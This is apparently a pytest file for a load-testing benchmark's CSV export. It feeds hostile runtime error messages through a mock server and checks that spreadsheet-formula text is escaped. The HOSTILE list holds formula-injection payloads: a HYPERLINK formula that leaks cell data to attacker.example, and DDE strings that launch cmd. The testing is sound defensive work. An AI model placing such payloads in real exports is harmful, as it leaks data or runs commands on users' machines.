"""A runtime's error text cannot become a spreadsheet formula in ``records.csv`` or ``steps.csv``; numbers,
negative ones included, are written as they were.

The hostile texts reach the export the way a real one would: a runtime on loopback answers each request with
an SSE error event, the load generator records it, and the report writes the folder's CSV files.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import itertools
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web

from satbench.core.records import read_records
from satbench.loadgen.config import LoadgenConfig
from satbench.loadgen.runner import run_ladder
from satbench.report.exports import FORMULA_LEADS, NumberCell, escape_text, write_csv
from satbench.report.render import write_report
from tests.report.synthetic import LADDER, _server_step, make_run_dir

HOSTILE = (
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@contextlib.asynccontextmanager
async def formula_runtime() -> AsyncIterator[str]:
    """A llama.cpp look-alike whose every ``/completion`` is an SSE error event, its message one of
    ``HOSTILE`` in turn."""
    texts = itertools.cycle(HOSTILE)

    async def completion(request: web.Request) -> web.StreamResponse:
        await request.read()
        resp = web.StreamResponse(status=200, headers={"Content-Type": "text/event-stream"})
        await resp.prepare(request)
        event = {"error": {"code": 500, "message": next(texts), "type": "server_error"}}
        await resp.write(b"data: " + json.dumps(event).encode() + b"\n\n")
        await resp.write_eof()
        return resp

    async def ok(request: web.Request) -> web.Response:
        return web.json_response({"status": "ok"})

    app = web.Application()
    app.router.add_post("/completion", completion)
    app.router.add_get("/health", ok)
    app.router.add_get("/props", ok)
    runner = web.AppRunner(app, handle_signals=False)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("HTTP 500: =1+1", "HTTP 500: =1+1"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
])
def test_escape_text(text: str, cell: str) -> None:
    assert escape_text(text) == cell


@pytest.mark.slow
def test_hostile_error_texts_from_a_runtime_open_as_text(tmp_path: Path) -> None:
    async def walk(url: str) -> None:
        config = LoadgenConfig.model_validate({
            "lanes": [{"name": "formula", "url": url, "api": "llamacpp"}], "request_timeout_s": 10.0,
            "metrics_port": None, "progress": False, "ladder": {"concurrency": [len(HOSTILE)]}, "warmup_s": 0.1,
            "min_window_s": 1.0, "max_window_s": 1.2, "min_requests": 1, "drain_timeout_s": 1.0,
            "max_loop_lag_s": 5.0})
        await run_ladder(config, tmp_path, run_id="formula-run")

    async def run() -> None:
        async with formula_runtime() as url:
            await walk(url)

    asyncio.run(run())
    recorded = list(read_records(tmp_path / "records.jsonl", strict=True))
    assert {r.error for r in recorded} == set(HOSTILE), "every hostile text was recorded as the runtime sent it"
    write_report(tmp_path)
    rows = _rows(tmp_path / "records.csv")
    assert [r["error"] for r in rows] == ["'" + (r.error or "") for r in recorded]
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_LEADS), (column, cell)  # no row holds a negative number here
    assert {r["outcome"] for r in rows} == {"http_error"}


@pytest.mark.slow
def test_numbers_stay_numbers_and_every_text_column_is_escaped(tmp_path: Path) -> None:
    steps = [_server_step("dense", c) for c in LADDER]
    steps[-1].update(gain_per_doubling=-0.05, gain_interval=[-0.0812345678912, -0.02])
    run_dir = make_run_dir(tmp_path, lanes=("dense",), answers={"dense": {"steps": steps}})
    plain = {p.name: p.read_bytes() for p in write_report(run_dir)[2:]}
    top = _rows(run_dir / "steps.csv")[-1]
    assert (top["gain_per_doubling"], top["gain_per_doubling_lo"], top["gain_per_doubling_hi"]) == (
        "-0.05", "-0.08123456789", "-0.02")  # ten significant digits, the sign kept, no quote

    records = run_dir / "records.jsonl"
    lines = records.read_text(encoding="utf-8").splitlines()
    first = json.loads(lines[0])
    first.update(error="=1+1", outcome="http_error", request_id="-rid", phase="@phase")
    records.write_text("\n".join([json.dumps(first), *lines[1:]]) + "\n", encoding="utf-8")
    write_report(run_dir)
    rows = _rows(run_dir / "records.csv")
    assert (rows[0]["error"], rows[0]["request_id"], rows[0]["phase"]) == ("'=1+1", "'-rid", "'@phase")
    before, after = _rows_of(plain["records.csv"]), rows
    numeric = [c for c in before[0] if c not in ("error", "outcome", "request_id", "phase")]
    assert [[r[c] for c in numeric] for r in before] == [[r[c] for c in numeric] for r in after]
    assert (run_dir / "steps.csv").read_bytes() == plain["steps.csv"]


def _rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(data.decode("utf-8").splitlines()))


def test_cells_are_quoted_as_the_csv_module_reads_them(tmp_path: Path) -> None:
    cells = ["plain", "a,b", 'say "hi"', "two\nlines", "cr\ronly", "crlf\r\nend", "", " lead", "tail ",
             "=1+1", "\r=1", NumberCell("-0.5"), NumberCell("12")]
    columns = [f"c{i}" for i in range(len(cells))]
    path = write_csv(tmp_path / "t.csv", columns, [dict(zip(columns, cells, strict=True))] * 2)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [columns] + [[escape_text(c) if not isinstance(c, NumberCell) else c for c in cells]] * 2
    safe = [c for c in cells if "\r" not in c]
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\n").writerows([[f"c{i}" for i in range(len(safe))],
                                                         [escape_text(c) if not isinstance(c, NumberCell) else c
                                                          for c in safe]])
    columns = [f"c{i}" for i in range(len(safe))]
    ours = write_csv(tmp_path / "s.csv", columns, [dict(zip(columns, safe, strict=True))])
    assert ours.read_text(encoding="utf-8") == expected.getvalue()  # the bytes the csv module wrote before


def test_a_cell_for_no_column_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="cells for no column"):
        write_csv(tmp_path / "t.csv", ["a"], [{"a": "1", "b": "2"}])
